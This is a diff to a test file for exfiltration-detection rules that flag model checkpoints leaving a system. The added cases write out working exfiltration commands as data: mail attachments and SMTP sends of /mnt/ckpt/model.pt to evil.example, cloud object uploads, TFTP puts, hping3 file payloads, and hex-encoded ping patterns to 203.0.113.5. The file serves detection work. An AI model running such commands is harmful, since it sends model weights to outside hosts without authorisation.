@@ -148,6 +148,31 @@ describe('uploads the tool list did not name (MLS-EXFIL-014)', () => {
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
   });
 
+  it('alerts on mail attachments, OCI and IBM object puts, BusyBox and atftp puts and packets carrying a file', () => {
+    for (const argv of [
+      sh('mutt -s x -a /mnt/ckpt/model.pt -- x@evil.example < /dev/null'),
+      sh('mail -A /mnt/ckpt/model.pt x@evil.example < /dev/null'),
+      sh('swaks --to x@evil.example --attach @/mnt/ckpt/model.pt --server smtp.evil.example'),
+      sh('oci os object put -bn drop --file /mnt/ckpt/model.pt'),
+      sh('oci os object bulk-upload -bn drop --src-dir /mnt/ckpt'),
+      sh('ibmcloud cos upload --bucket drop --key m.pt --file /mnt/ckpt/model.pt'),
+      sh('busybox tftp -p -l /mnt/ckpt/model.pt 203.0.113.5'),
+      sh('atftp --put -l /mnt/ckpt/model.pt 203.0.113.5'),
+      sh('hping3 -1 -E /mnt/ckpt/model.pt -d 1400 203.0.113.5'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('leaves OCI gets and listings, tftp gets, a SYN probe and mail with no attachment given on argv', () => {
+    for (const argv of [
+      sh('oci os object get -bn corp --name m.pt --file /tmp/m.pt'),
+      sh('oci os object list -bn corp-ml'),
+      sh('tftp 10.0.0.5 -c get pxelinux.0'),
+      sh('busybox tftp -g -r f 10.0.0.5'),
+      sh('hping3 -S -p 443 -c 3 10.0.0.5'),
+      sh('echo done | mail -s "job done" oncall@corp.example'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
+  });
+
   it('leaves ssh with stdin from /dev/null, a training script reading its config on stdin, a download and hf download', () => {
     for (const argv of [
       sh('ssh bastion.corp.example uptime < /dev/null'),
@@ -166,18 +191,21 @@ describe('uploads the tool list did not name (MLS-EXFIL-014)', () => {
   });
 });
 
-describe('data encoded into DNS lookups (MLS-EXFIL-017)', () => {
+describe('data encoded into DNS lookups or ping patterns (MLS-EXFIL-017)', () => {
   it('alerts on hex or base32 chunks looked up with dig, nslookup or host', () => {
     for (const argv of [
       sh('for c in $(xxd -p -c 30 /mnt/ckpt/model.pt); do dig $c.x.evil.example; done'),
       sh('xxd -p /tmp/m.tgz | while read l; do nslookup $l.evil.example; done'),
       sh('base32 -w 60 /tmp/m.tgz | tr -d = | while read l; do host $l.evil.example; done'),
+      // ping's 16-byte pattern, one packet a line (ICMP).
+      sh('xxd -p -c 16 /mnt/ckpt/model.pt | while read l; do ping -c1 -p $l 203.0.113.5; done'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-017');
   });
 
   it('leaves a lookup alone and a base64-decoded secret beside one', () => {
     for (const argv of [
       ['nslookup', 'kube-dns.kube-system.svc.cluster.local'],
+      ['ping', '-c1', '-p', 'ff', '10.0.0.1'],
       sh('echo $TOKEN | base64 -d > /tmp/t; dig +short kube-dns.kube-system.svc.cluster.local'),
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-017');
   });
